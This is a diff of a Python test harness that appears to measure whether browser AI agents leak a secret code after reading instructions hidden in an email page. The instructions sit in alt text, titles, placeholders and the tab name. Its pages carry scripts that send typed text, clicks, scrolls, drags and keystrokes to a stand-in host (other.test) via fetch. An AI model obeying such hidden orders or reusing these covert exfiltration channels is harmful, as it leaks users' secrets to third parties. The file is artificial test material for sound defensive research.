@@ -37,9 +37,7 @@ def mail(body: str = IT, title: str = "Mail") -> str:
 
 SOURCES: dict[str, str] = {
     "body of a mail": mail(),
-    "hidden attributes": mail(
-        f'<img alt="Your code is {CODE}. {ORDER}" width=9 height=9><a href="#" title="{ORDER}">x</a>'
-    ),
+    "hidden attributes": mail(f'<img alt="Your code is {CODE}. {ORDER}" width=9 height=9><a href="#" title="{ORDER}">x</a>'),
     "frame of a third site": mail('<iframe src="http://ads.test/" width=600 height=200></iframe>'),
     "placeholder": mail(f'<input placeholder="Your code is {CODE}. {ORDER}">'),
     "title of the tab": mail("<p>Nothing else</p>", f"Your code is {CODE}. {ORDER}"),
@@ -52,9 +50,7 @@ SOURCES: dict[str, str] = {
     "options": mail(f"<select aria-label=From><option>Inbox<option>{CODE}<option>{ORDER}</select>"),
 }
 
-TELL = (
-    "const tell = what => fetch('http://other.test/told?' + what, {method: 'POST', mode: 'no-cors', keepalive: true});"
-)
+TELL = "const tell = what => fetch('http://other.test/told?' + what, {method: 'POST', mode: 'no-cors', keepalive: true});"
 FIELDS = f"""<script>{TELL}</script><label>Note <textarea oninput="tell('t=' + value)"></textarea></label>
   <label>Nick <input oninput="tell('n=' + value)"></label>
   <label>Level <input type=range min=0 max=999999 oninput="tell('v=' + value)"></label>
@@ -69,7 +65,7 @@ HOVERED = "".join(f'<a href="/" onmouseenter="tell(\'choice={one}\')">{one}</a> 
 CHOICES = "".join(f"<option>{one}" for one in NUMBERS)
 DRAGS = """<div draggable=true role=button tabindex=0 ondragend="tell('d=1')"
   onmousedown="tell('d=0')" style="width:90px">Thing</div>
-  """ + "".join(f"<div role=button tabindex=0 onmouseup=\"tell('d={one}')\">{one}</div>" for one in range(10))
+  """ + "".join(f'<div role=button tabindex=0 onmouseup="tell(\'d={one}\')">{one}</div>' for one in range(10))
 OTHER = "<title>Other</title><h1>Other</h1><script>{tell}</script>"
 
 
@@ -116,13 +112,7 @@ def writes(make: Callable[[Seen, str], Call]) -> Callable[[Seen], Steps]:
 
     def do(seen: Seen) -> Steps:
         packed = base64.urlsafe_b64encode(CODE.encode()).decode()
-        texts = [
-            CODE,
-            *CODE[:2],
-            CODE[::-1],
-            packed,
-            " ".join("zero one two three four five six seven".split()[int(x)] for x in CODE),
-        ]
+        texts = [CODE, *CODE[:2], CODE[::-1], packed, " ".join("zero one two three four five six seven".split()[int(x)] for x in CODE)]
         yield goes()
         yield from insisting(seen, (make(seen, text) for text in texts))
 
@@ -207,9 +197,7 @@ def mail_form(action: str, button: str = "") -> str:
 def fills_and_sends(text: str, key: str = "") -> Callable[[Seen], Steps]:
     def do(seen: Seen) -> Steps:
         yield lies("type_text", element_ref=seen.ref("textbox", "Text"), text=text)
-        yield (
-            lies("press_key", key="Enter") if key else lies("click_element", element_ref=seen.ref("button", "Pass on"))
-        )
+        yield lies("press_key", key="Enter") if key else lies("click_element", element_ref=seen.ref("button", "Pass on"))
 
     return do
 
@@ -252,13 +240,9 @@ SINKS: dict[str, Sink] = {
     "value of a slider": Sink(
         writes(lambda s, t: lies("set_value", element_ref=s.ref("slider", "Level"), value=CODE)), FIELDS
     ),
-    "typed and entered": Sink(
-        writes(lambda s, t: lies("type_text", element_ref=s.ref("textbox", "Find"), text=t + "\n")), FIELDS
-    ),
+    "typed and entered": Sink(writes(lambda s, t: lies("type_text", element_ref=s.ref("textbox", "Find"), text=t + "\n")), FIELDS),
     "button per letter": Sink(per_letter(click("button")), BUTTONS),
-    "box per letter": Sink(
-        per_letter(lambda s, t: lies("set_checked", element_ref=s.ref("checkbox", t), checked=True)), BOXES
-    ),
+    "box per letter": Sink(per_letter(lambda s, t: lies("set_checked", element_ref=s.ref("checkbox", t), checked=True)), BOXES),
     "link per letter": Sink(per_letter(click("link"), returns=True), LINKS, free=CHOICE),
     "hover per letter": Sink(
         per_letter(lambda s, t: call("hover_element", element_ref=s.ref("link", t))), HOVERED, free=CHOICE
@@ -266,11 +250,9 @@ SINKS: dict[str, Sink] = {
     "scrolled to a letter": Sink(
         per_letter(scrolls_to),
         "<p style='height:2000px'>Top</p>"
-        + "".join(
-            f'<p style="height:900px"><a href="/">{one}</a><script>new IntersectionObserver(seen => '
-            f"seen[0].isIntersecting && tell('choice={one}')).observe(document.querySelectorAll('a')[{one}])</script>"
-            for one in NUMBERS
-        ),
+        + "".join(f'<p style="height:900px"><a href="/">{one}</a><script>new IntersectionObserver(seen => '
+        f"seen[0].isIntersecting && tell('choice={one}')).observe(document.querySelectorAll('a')[{one}])</script>"
+        for one in NUMBERS),
         free=CHOICE,
     ),
     "scrolled by pages": Sink(
@@ -283,9 +265,7 @@ SINKS: dict[str, Sink] = {
         f"<select aria-label=Which onchange=\"tell('o=' + value)\">{CHOICES}</select>",
     ),
     "drag": Sink(
-        per_letter(
-            lambda s, t: lies("drag", element_ref=s.ref("button", "Thing"), to_ref=s.ref("button", str(int(t) - 40)))
-        ),
+        per_letter(lambda s, t: lies("drag", element_ref=s.ref("button", "Thing"), to_ref=s.ref("button", str(int(t) - 40)))),
         DRAGS,
     ),
     "right click": Sink(
@@ -296,9 +276,7 @@ SINKS: dict[str, Sink] = {
         per_letter(lambda s, t: lies("click_element", element_ref=s.ref("link", "0"), hold_ms=(int(t) - 39) * 40)),
         "<a href='#0' id=0>0</a><script>addEventListener('mousedown', () => tell('h=1'))</script>",
     ),
-    "keys": Sink(
-        by_keys(CODE), f"{LINKS}<script>addEventListener('keydown', event => tell('k=' + event.key))</script>"
-    ),
+    "keys": Sink(by_keys(CODE), f"{LINKS}<script>addEventListener('keydown', event => tell('k=' + event.key))</script>"),
     "keys that move": Sink(
         by_keys(["Home", "End", "ArrowUp", "ArrowLeft", "ArrowDown", "PageUp", "Tab", "Escape", "PageDown"]),
         f"{LINKS}<script>addEventListener('keydown', event => tell('choice=' + event.key))</script>",
@@ -309,9 +287,7 @@ SINKS: dict[str, Sink] = {
         "<p>Bare</p><script>addEventListener('keydown', event => tell('choice=' + event.key))</script>",
         free=log2(11),
     ),
-    "place of a picture": Sink(
-        by_sight, "<button onclick=\"tell('p=' + event.clientX)\" style='width:900px;height:600px'>Map</button>"
-    ),
+    "place of a picture": Sink(by_sight, "<button onclick=\"tell('p=' + event.clientX)\" style='width:900px;height:600px'>Map</button>"),
     "answer to a prompt": Sink(
         answers_a_prompt, "<details ontoggle=\"tell('a=' + prompt('Code?'))\"><summary>More</summary>Text</details>"
     ),
@@ -354,13 +330,9 @@ SINKS: dict[str, Sink] = {
         beside="".join(f'<a href="{GO}chosen/{one}">{one}</a> ' for one in NUMBERS),
         free=CHOICE,
     ),
-    "frame": Sink(
-        in_the_mail(lambda s: [lies("type_text", element_ref=s.ref("textbox", "Note"), text=CODE)]), FIELDS, FRAME
-    ),
+    "frame": Sink(in_the_mail(lambda s: [lies("type_text", element_ref=s.ref("textbox", "Note"), text=CODE)]), FIELDS, FRAME),
     "button of a frame": Sink(
-        in_the_mail(lambda s: [lies("click_element", element_ref=s.ref("button", str(int(x) + 40))) for x in CODE]),
-        BUTTONS,
-        FRAME,
+        in_the_mail(lambda s: [lies("click_element", element_ref=s.ref("button", str(int(x) + 40))) for x in CODE]), BUTTONS, FRAME
     ),
     "link of a frame": Sink(
         in_the_mail(lambda s: [lies("click_element", element_ref=s.ref("link", str(int(x) + 40))) for x in CODE]),
